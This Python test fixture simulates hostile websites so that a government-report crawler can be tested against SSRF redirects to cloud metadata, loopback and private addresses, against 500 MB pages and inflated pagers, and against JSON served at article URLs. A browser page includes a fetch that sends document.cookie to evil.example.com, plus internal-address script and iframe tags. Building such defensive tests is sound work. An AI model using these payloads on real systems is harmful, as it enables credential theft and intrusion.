"""Hostile sites: registry hosts whose pages try to carry the crawler elsewhere or exhaust it.

Install on a replica server with ``server.fault = HostileSites()``; the world still answers
every other host. ``registry()`` gives the registry entries of the two hostile units (write
them to a sites file). Each attack is a 年报 column of its own under ``/zfxxgknb/<attack>/`` (so
a crawl can be limited to one attack), all linked from the root column ``/zfxxgknb/``:

- ``redirect-metadata``, ``redirect-loopback``, ``redirect-offsite``, ``redirect-port``: an
  article answers 302/301/307/302 to the cloud metadata address, PostgreSQL on loopback, a
  foreign host, and the registry host on another port;
- ``meta-refresh``: an article's ``<meta http-equiv=refresh>`` points at a private address;
- ``huge-page`` / ``huge-stream``: a 500 MB article, with a Content-Length and without one
  (streamed in 64 KiB chunks, never built in memory);
- ``huge-listing``: a listing whose pager claims ``createPage(10000000, …)``;
- ``json-page``: JSON at an article URL (served as text/html) and a listing answering JSON;
- ``good``: an ordinary article, and a redirect to it on the same host (must be archived).

The browser unit (``browser: true``) has a listing whose images, scripts, frame, stylesheet and
XHR reach for foreign and internal hosts, with an image on its own host that redirects to an
internal address, and a listing whose script navigates the page to an internal address.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

HOST = "www.cqhostile.gov.cn"
BROWSER_HOST = "www.cqhostilejs.gov.cn"
ROOT = "/zfxxgknb/"
HUGE_SIZE = 500 * 2**20
CHUNK = 64 * 2**10
CLAIMED_PAGES = 10_000_000

# The addresses the attacks aim at; none of them may ever receive a request.
TARGETS = {
    "redirect-metadata": (302, "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    "redirect-loopback": (301, "http://127.0.0.1:5432/"),
    "redirect-offsite": (307, "http://evil.example.com/zfxxgknb/202401/t20240101_1.html"),
    "redirect-port": (302, f"http://{HOST}:5432/"),
}
META_REFRESH_TARGET = "http://10.0.0.1/admin"
ATTACKS = (*TARGETS, "meta-refresh", "huge-page", "huge-stream", "huge-listing", "json-page", "good")
# The page error each attack must leave (kind as recorded by the crawler).
EXPECTED_ERRORS = {
    **{name: "offsite" for name in TARGETS},
    "meta-refresh": "offsite",
    "huge-page": "too_large",
    "huge-stream": "too_large",
    "huge-listing": "listing_pages",
    "json-page": "not_html",
}

Answer = tuple[int, bytes] | Callable[[Any], None] | None


def article_path(attack: str, number: int = 1) -> str:
    return f"{ROOT}{attack}/202401/t2024010{number}_{100 + ATTACKS.index(attack) * 10 + number}.html"


def _html(title: str, body: str, head: str = "") -> bytes:
    return (
        f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>{title}</title>{head}</head>'
        f"<body>{body}</body></html>"
    ).encode()


def _listing(title: str, links: list[str], script: str = "") -> bytes:
    items = "".join(f'<li><a href="{link}">{title} {index}</a></li>' for index, link in enumerate(links))
    return _html(title, f'<div class="p-rt rt"><ul>{items}</ul></div><script>{script}</script>')


def _article(title: str) -> bytes:
    return _html(
        title,
        f'<div class="zwxl-title">{title}</div><div class="zwxl-article"><p>{title}。</p></div>',
        '<meta name="PubDate" content="2024-01-01 09:00">',
    )


def _redirect(status: int, location: str) -> Callable[[Any], None]:
    def answer(handler: Any) -> None:
        handler.server.owner.record(handler._host, handler._path, status, 0)
        handler.send_response(status)
        handler.send_header("Location", location)
        handler.send_header("Content-Length", "0")
        handler.end_headers()

    return answer


def _huge(with_length: bool) -> Callable[[Any], None]:
    """500 MB of HTML, written chunk by chunk until the client hangs up."""

    def answer(handler: Any) -> None:
        handler.server.owner.record(handler._host, handler._path, 200, HUGE_SIZE)
        handler.send_response(200)
        handler.send_header("Content-Type", "text/html; charset=utf-8")
        if with_length:
            handler.send_header("Content-Length", str(HUGE_SIZE))
        else:
            handler.send_header("Connection", "close")
            handler.close_connection = True
        handler.end_headers()
        chunk = b"<p>" + b"x" * (CHUNK - 7) + b"</p>\n"
        try:
            for _ in range(HUGE_SIZE // len(chunk)):
                handler.wfile.write(chunk)
        except OSError:
            handler.close_connection = True

    return answer


class HostileSites:
    """A fault hook answering for the hostile hosts (and nothing else)."""

    def __call__(self, host: str, path: str) -> Answer:
        if host == HOST:
            return self._hostile(path)
        if host == BROWSER_HOST:
            return self._browser(path)
        return None

    def _hostile(self, path: str) -> Answer:
        if path == "/robots.txt":
            return 404, b"not found"
        if path == ROOT:
            return 200, _listing("年报", [f"{ROOT}{attack}/" for attack in ATTACKS])
        attack, _, rest = path.removeprefix(ROOT).partition("/")
        if attack not in ATTACKS:
            return 404, b"<html><body>404</body></html>"
        if rest in ("", "sub/") or rest.startswith("index_"):
            return self._listing(attack, rest)
        if attack in TARGETS and path == article_path(attack):
            return _redirect(*TARGETS[attack])
        if attack == "meta-refresh":
            refresh = f'<meta http-equiv="refresh" content="0; url={META_REFRESH_TARGET}">'
            return 200, _html("跳转", "", refresh)
        if attack in ("huge-page", "huge-stream"):
            return _huge(with_length=attack == "huge-page")
        if attack == "json-page":
            return 200, json.dumps({"title": "not a page", "items": list(range(100))}).encode()
        if attack == "good" and path == article_path("good", 2):
            return _redirect(302, f"http://{HOST}{article_path('good')}")
        if attack == "good" or rest.startswith("202401/"):
            return 200, _article(f"{attack} 2023年政府信息公开工作年度报告说明")
        return 404, b"<html><body>404</body></html>"

    def _listing(self, attack: str, rest: str) -> Answer:
        if attack == "huge-listing" and rest:
            return 200, _listing("年报", [article_path("good")])
        if attack == "huge-listing":
            script = f'createPage({CLAIMED_PAGES}, 0, "index", "html");'
            return 200, _listing("年报", [article_path("good")], script)
        if attack == "json-page" and rest == "":
            links = [article_path(attack), f"{ROOT}{attack}/sub/"]
            return 200, _listing("年报", links)
        if attack == "json-page":
            return self._json_listing()
        links = [article_path(attack)] + ([article_path(attack, 2)] if attack == "good" else [])
        return 200, _listing("年报", links)

    def _json_listing(self) -> Callable[[Any], None]:
        body = json.dumps([{"url": article_path("good")}]).encode()

        def answer(handler: Any) -> None:
            handler._send(200, body, {"Content-Type": "application/json"}, head_only=False)

        return answer

    def _browser(self, path: str) -> Answer:
        if path == "/robots.txt":
            return 404, b"not found"
        if path == ROOT:
            body = f"""
<div class="p-rt rt"><ul><li><a href="{ROOT}202401/t20240101_901.html">2023年年报</a></li>
<li><a href="{ROOT}navigate/">跳转</a></li></ul></div>
<img src="http://evil.example.com/pixel.png">
<img src="http://169.254.169.254/latest/meta-data/">
<img src="/zfxxgknb/bounce.png">
<script src="http://127.0.0.1:5432/steal.js"></script>
<iframe src="http://10.0.0.1/admin"></iframe>
<link rel="stylesheet" href="http://cdn.evil.example.com/style.css">
<script>
fetch("http://evil.example.com/api?leak=" + document.cookie).catch(() => {{}});
</script>"""
            return 200, _html("年报", body)
        if path == f"{ROOT}navigate/":
            script = 'setTimeout(() => { location.href = "http://169.254.169.254/navigate"; }, 50);'
            return 200, _listing("年报", [f"{ROOT}202401/t20240101_902.html"], script)
        if path == "/zfxxgknb/bounce.png":
            return _redirect(302, "http://192.168.1.1/router.png")
        if path.startswith(f"{ROOT}202401/"):
            return 200, _article("2023年政府信息公开工作年度报告说明")
        return 404, b"<html><body>404</body></html>"


def registry() -> list[dict[str, Any]]:
    """Registry entries of the hostile units (the browser one flagged ``browser: true``)."""
    return [
        {"code": "hostile", "name": "敌对区", "hosts": [HOST], "roots": [f"http://{HOST}{ROOT}"]},
        {
            "code": "hostilejs",
            "name": "敌对县",
            "hosts": [BROWSER_HOST],
            "roots": [f"http://{BROWSER_HOST}{ROOT}"],
            "browser": True,
        },
    ]


def single_attack_registry(attack: str) -> list[dict[str, Any]]:
    """A registry whose only root is one attack's column (for measuring one attack alone)."""
    return [
        {"code": "hostile", "name": "敌对区", "hosts": [HOST], "roots": [f"http://{HOST}{ROOT}{attack}/"]}
    ]
